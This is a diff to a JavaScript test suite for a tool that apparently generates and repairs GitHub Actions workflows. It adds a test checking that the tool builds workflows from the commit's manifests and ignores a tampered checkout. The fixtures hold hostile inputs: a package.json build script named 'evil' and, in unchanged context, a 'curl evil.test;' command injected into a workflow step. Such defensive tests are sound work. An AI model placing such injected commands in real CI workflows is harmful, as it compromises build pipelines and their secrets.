@@ -127,6 +127,15 @@ describe('a run of the default branch with a token that may write workflows', ()
     expect((await pulls(shop.fullName))[0]?.body).toContain('create .github/dependabot.yml')
   })
 
+  it('creates workflows, by the manifests of the commit and not of the checkout', async () => {
+    const files = { '.github/workflows/release.yml': REPAIRED.replace('on: [push]', 'on: release'), 'a.js': '', 'a.test.js': '', 'package-lock.json': '', 'package.json': '{"scripts": {"test": "node --test"}}' }
+    const shop = await makeRepository(files)
+    const { failures } = await runIn(shop, { files: { ...files, 'package.json': '{"scripts": {"build": "evil"}}' }, inputs: { profile: 'pedantic', 'fix-pr': 'all' } })
+    expect(failures).toEqual([])
+    expect(await github.readFile(shop.fullName, BRANCH, '.github/workflows/tests.yml')).toContain('run: npm run test\n')
+    expect(await github.readFile(shop.fullName, BRANCH, '.github/workflows/codeql.yml')).toContain('- language: javascript-typescript\n')
+  })
+
   it("repairs the commit's own text, whatever an earlier step has made of the checkout", async () => {
     const shop = await makeRepository()
     const { log } = await runIn(shop, { files: { [CI_PATH]: DRIFTED.replace('echo "::', 'curl evil.test; echo "::'), '.github/workflows/extra.yml': DRIFTED } })
